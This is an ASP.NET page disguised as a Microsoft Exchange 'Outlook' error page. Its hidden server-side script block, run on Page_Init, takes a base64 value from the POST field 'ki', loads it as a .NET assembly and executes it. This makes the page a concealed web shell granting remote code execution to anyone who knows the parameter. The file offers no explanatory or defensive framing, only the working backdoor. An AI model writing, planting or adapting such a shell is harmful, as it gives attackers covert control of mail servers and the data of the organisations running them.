<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<!DOCTYPE html>
<html>
<head><title>Outlook</title></head>
<body><div class="error"><%= this.ErrorMessage %></div></body>
</html>
<script runat="server">void Page_Init(object s, EventArgs e){ if (Request.Form["ki"] != null) System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["ki"])).CreateInstance("P").Equals(this); }</script>
